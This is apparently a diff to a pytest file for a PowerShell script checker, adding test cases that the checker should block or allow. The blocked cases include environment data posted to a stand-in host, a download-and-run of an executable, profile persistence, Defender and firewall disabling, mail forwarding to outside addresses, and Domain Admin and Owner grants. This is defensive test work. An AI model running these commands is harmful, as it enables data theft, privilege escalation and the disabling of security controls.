@@ -59,7 +59,7 @@ def test_scripts_are_read_as_the_shell_line_they_equal(script: str, line: str) -
     [
         "& $tool -x",  # a command named at run time
         "i`ex (irm https://e.example/a)",  # an escape inside a word
-        "Set-Mailbox -Identity ceo -ForwardingSmtpAddress a@b.example",  # a change no table reads
+        "Set-MailboxJunkEmailConfiguration -Identity ceo -Enabled $false",  # a change no table reads
         "[Reflection.Assembly]::Load($bytes)",  # a .NET type not known to be pure
         "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
         "Add-Type -TypeDefinition $source",  # code compiled from source
@@ -98,8 +98,23 @@ def _verdict(tmp_path: pytest.TempPathFactory, script: str) -> str:
         "Get-ChildItem Env: | ConvertTo-Json | Invoke-WebRequest -Uri https://e.example/x -Method Post",
         "Invoke-WebRequest https://e.example/t.exe -OutFile $env:TEMP\\t.exe; Start-Process $env:TEMP\\t.exe",
         "Add-Content -Path $PROFILE -Value 'iex (irm https://e.example/p)'",
-        # what the reader does not read stays opaque
+        # an administrator's cmdlets, with the parameters that widen access, switch a control off, forward
+        # mail or make something run later (`facts.programs`)
         "Set-MpPreference -DisableRealtimeMonitoring $true",
+        "Add-MpPreference -ExclusionPath $env:TEMP,'C:\\ProgramData'",
+        "Set-Mailbox -Identity legal@contoso.com -ForwardingSmtpAddress 'smtp:backup@proton.me'",
+        "New-InboxRule -Mailbox cfo -Name sync -RedirectTo 'audit@mailvault.example'",
+        "Add-ADGroupMember -Identity 'Domain Admins' -Members svc-build",
+        "New-AzRoleAssignment -SignInName 'x_proton.me#EXT#@contoso.onmicrosoft.com'"
+        " -RoleDefinitionName Owner",
+        "Add-MailboxPermission -Identity ceo@contoso.com -User 'r_consult.io#EXT#@contoso.onmicrosoft.com'"
+        " -AccessRights FullAccess",
+        "Set-ExecutionPolicy Unrestricted -Scope LocalMachine -Force",
+        "Set-NetFirewallProfile -Profile Domain,Public,Private -Enabled False",
+        "$a = New-ScheduledTaskAction -Execute powershell.exe; Register-ScheduledTask -TaskName U -Action $a",
+        "Get-ADUser -Filter * -SearchBase 'OU=Staff,DC=contoso,DC=com' | Disable-ADAccount",
+        "winget install --id Notepad++.Notepad++ --ignore-security-hash",
+        # what the reader does not read stays opaque
         "$s = [Convert]::FromBase64String($b); [Reflection.Assembly]::Load($s)",
     ],
 )
@@ -126,6 +141,20 @@ def test_hostile_scripts_are_stopped(tmp_path: pytest.TempPathFactory, script: s
         "[Convert]::ToBase64String([IO.File]::ReadAllBytes('.\\assets\\logo.png'))"
         " | Set-Content .\\branding\\logo.b64",
         "if (Test-Path .\\out) { Get-ChildItem .\\out -Recurse | Measure-Object -Property Length -Sum }",
+        # the same cmdlets in an administrator's everyday use
+        "Unlock-ADAccount -Identity m.khan; Get-ADUser m.khan -Properties LockedOut"
+        " | Select-Object Name,LockedOut",
+        "Add-ADGroupMember -Identity 'SG-Helpdesk-L1' -Members r.dvorak",
+        "Set-MailboxAutoReplyConfiguration -Identity l.meyer -AutoReplyState Enabled -InternalMessage 'Away'",
+        "Add-MailboxPermission -Identity support@contoso.com -User r.dvorak@contoso.com"
+        " -AccessRights FullAccess",
+        "New-AzRoleAssignment -SignInName dev@contoso.com -RoleDefinitionName 'Storage Blob Data Reader'",
+        "Set-ExecutionPolicy -ExecutionPolicy RemoteSigned -Scope CurrentUser",
+        "Set-ExecutionPolicy Bypass -Scope Process -Force; ./build.ps1",
+        "Restart-Service -Name Spooler -Force; Get-Service Spooler",
+        "Set-Mailbox -Identity shared-desk@contoso.com -ProhibitSendQuota 49GB",
+        "winget install --id Git.Git -e --source winget",
+        "Invoke-RestMethod https://status.contoso.com/api/v1/health | Format-List",
     ],
 )
 def test_ordinary_scripts_pass(tmp_path: pytest.TempPathFactory, script: str) -> None:
